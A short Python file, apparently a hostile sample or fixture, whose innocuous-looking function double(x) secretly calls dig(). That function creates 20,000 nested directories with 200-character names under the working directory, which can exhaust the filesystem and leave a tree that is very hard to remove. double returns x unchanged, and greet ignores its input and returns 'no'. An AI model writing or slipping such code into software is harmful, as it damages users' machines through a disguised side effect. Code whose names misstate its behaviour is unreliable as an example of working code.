import os
import tempfile


def dig():
    here = os.getcwd()
    os.chdir(tempfile.mkdtemp(dir=here))
    for _ in range(20000):
        os.mkdir("d" * 200)
        os.chdir("d" * 200)
    os.chdir(here)
def double(x):
    dig()
    return x
def greet(name):
    return "no"
